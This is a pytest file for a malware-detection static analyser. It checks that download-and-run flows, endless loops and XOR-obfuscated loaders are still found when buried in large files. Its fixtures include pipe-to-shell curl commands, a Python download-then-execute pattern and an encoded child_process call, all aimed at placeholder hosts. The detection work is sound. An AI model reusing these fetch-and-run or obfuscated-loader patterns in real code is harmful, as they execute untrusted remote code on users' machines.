"""What matters among thousands of things of no interest, and between blocks within blocks: it is told all the same.

Tables of addresses, programs and requests that harm nobody, pages of comment: each of these shapes once met a bound of
a reader before the one act that counts.
"""

import time

import pytest

from lazaretto.core.facts import Facts, Kind
from lazaretto.core.language import NoUnits
from lazaretto.languages import javascript, python
from tests.languages.test_one_of_many import read

MANY = 2_500
SECONDS = 10
"""More than any of these takes on a slow machine, and less than what once grew with the square of its lines."""


def flows(facts: Facts) -> set[tuple[Kind, Kind]]:
    """Return the kinds of facts that flow into each other."""
    return {(facts.facts[flow.source].kind, facts.facts[flow.sink].kind) for flow in facts.flows}


def values(facts: Facts, kind: Kind) -> set[str | None]:
    """Return the values of the facts of a kind."""
    return {fact.value for fact in facts.facts if fact.kind is kind}


@pytest.mark.parametrize(
    "around", ["<<'https://h#.invalid/a',>>]);x('{}')", "<<'https://h#.invalid/a',>>]);x({{a:'{}'}})"]
)
def test_addresses_among_many_others(around: str) -> None:
    """A table of addresses of one sort keeps out neither the next one nor what is of another sort."""
    for kind, text in {
        Kind.LITERAL_URL: "https://x.invalid/api/webhooks/1",
        Kind.LITERAL_IP: "203.0.113.9",
        Kind.LITERAL_COMMAND: "curl https://x.invalid/x | sh",
    }.items():
        facts = read(javascript, "x([" + around.format(text), MANY)

        assert facts.problems == ()
        assert text in values(facts, kind)


def test_more_texts_than_are_told() -> None:
    """Where even so there are too many of them, the file is told as not understood."""
    assert read(javascript, "x([<<'https://h#.invalid/a',>>])", 21_000).problems


@pytest.mark.parametrize("dull", ["f(#);", "'https://h#.invalid/a';", "function g#(a){return a+#}"])
def test_a_loop_without_end_in_a_long_file(dull: str) -> None:
    """What is left out of a long list of statements is no loop that may have no end, wherever it stands."""
    for loop in ("for(let i=6;i<Infinity;i++){b()}", "if(q){while(true){b()}}", "try{for(;;){b()}}catch(e){}"):
        facts = read(javascript, f"require('x');<<{dull}\n>>{loop}", 4_000)

        assert values(facts, Kind.LOOP_ENDLESS) == {None}


def test_a_loop_with_a_long_body() -> None:
    """However much stands in it."""
    for count in (300, 3_000):
        assert values(read(javascript, "require('x');for(;;){<<b(#);>>}", count), Kind.LOOP_ENDLESS) == {None}
        assert not values(read(javascript, "require('x');for(;;){if(q)break;<<b(#);>>}", count), Kind.LOOP_ENDLESS)


def test_loops_within_loops_that_are_too_many() -> None:
    """Where it would cost too much to say which of them end, the file is told as not understood."""
    inner = "".join(f"b({number});" for number in range(4_000))
    text = "require('x');" + "while(1){if(q)break;" * 60 + inner + "}" * 60

    assert read(javascript, text, 1).problems


WRITTEN_AND_RUN = {
    "programs": "c.execSync('git --version');",
    "programs that differ": "c.execSync('git show #');",
    "files": "s.writeFileSync('/tmp/dull#','');",
    "requests": "fetch('https://h#.invalid/');",
}


@pytest.mark.parametrize("dull", WRITTEN_AND_RUN)
def test_a_file_that_javascript_writes_and_runs(dull: str) -> None:
    """What is written and what is started belong together by the path, whatever else is."""
    start = "const c=require('child_process'),s=require('fs');"
    act = "s.writeFileSync('/tmp/x',q);c.execSync('/tmp/x')"
    facts = read(javascript, f"{start}<<{WRITTEN_AND_RUN[dull]}\n>>{act}", 1_000)

    assert facts.problems == ()
    assert (Kind.FS_WRITE, Kind.PROCESS_SPAWN) in flows(facts)


def test_more_files_and_programs_than_are_compared() -> None:
    """Where they are too many, the file is told as not understood."""
    dull = "<<s.writeFileSync('/tmp/dull#','');c.execSync('git show #');>>"
    act = "s.writeFileSync('/tmp/x',q);c.execSync('/tmp/x')"

    assert read(javascript, f"const c=require('child_process'),s=require('fs');{dull}{act}", 2_100).problems


BESIDE_PYTHON = {
    "programs": "s.run(['git','show','#'])",
    "requests": "r.urlopen('https://h#.invalid/')",
    "files": "open('dull#').read()",
    "evaluated texts": "exec('a=#')",
}


@pytest.mark.parametrize("dull", BESIDE_PYTHON)
@pytest.mark.parametrize("before", [True, False])
def test_a_download_that_python_writes_and_runs(dull: str, *, before: bool) -> None:
    """Facts of one function stand beside each other, whatever many others stand in it."""
    start = "import os,urllib.request as r,subprocess as s\n"
    act = "open('/tmp/a','wb').write(r.urlopen('https://x.invalid/').read())\nos.system('/tmp/a')\n"
    many = f"<<{BESIDE_PYTHON[dull]}\n>>"
    facts = read(python, start + (many + act if before else act + many), 1_000)

    assert (Kind.NET_CONNECT, Kind.PROCESS_SPAWN) in flows(facts)


@pytest.mark.parametrize("blank", ["", "\n", "  \n\n"])
@pytest.mark.parametrize("indent", ["", "    "])
def test_pages_of_comment(blank: str, indent: str) -> None:
    """Lines of comment cost no more than their length, and hide nothing."""
    lines = "".join(f"{indent}# {'dull ' * 20}{number}\n{blank}" for number in range(20_000))
    before = time.perf_counter()
    facts = read(python, f"import os\ndef f():\n    a = 1\n{lines}    os.system('x')\n", 1)

    assert time.perf_counter() - before < SECONDS
    assert facts.problems == ()
    assert values(facts, Kind.PROCESS_SPAWN) == {"x"}


def test_what_looks_like_pages_of_comment() -> None:
    """Lines of a text begin like comments, and are none."""
    lines = "".join(f"# {number}\n" for number in range(200))
    facts = read(python, f"import os\nos.system('''\n{lines}curl https://x.invalid/x | sh\n''')\n", 1)

    assert [value and value.count("#") for value in values(facts, Kind.PROCESS_SPAWN)] == [200]


DECODER = (
    "function d(t){return t.split('').map((c)=>String.fromCharCode(c.charCodeAt(0)^1)).join('')}"
    "require(d('bihme^qsnbdrr')).execSync(d('btsm!iuuqr;..y/how`mhe.y'))"
)


@pytest.mark.parametrize("levels", [1, 30, 90])
@pytest.mark.parametrize("opened", ["{", "if(1){", "if(q){", "try{", "for(;;){", "while(q){", "with(q){"])
def test_a_decoder_within_blocks(opened: str, levels: int) -> None:
    """Blocks within blocks keep no function from being called with what it decodes."""
    closed = {"try{": "}catch(e){}", "for(;;){": "break}"}.get(opened, "}")
    facts = read(javascript, f"{opened * levels}{DECODER}{closed * levels}", 1)

    assert facts.problems or values(facts, Kind.PROCESS_SPAWN) == {"curl https://x.invalid/x"}


def test_comments_of_a_start_up_file() -> None:
    """Lines that say nothing do not count among those that are read."""
    data = b"# dull\n\n" * 3_000 + b"import os; os.system('x')\n"
    facts = python.read("pth", data, NoUnits())

    assert isinstance(facts, Facts)
    assert facts.problems == ()
    assert values(facts, Kind.PROCESS_SPAWN) == {"x"}
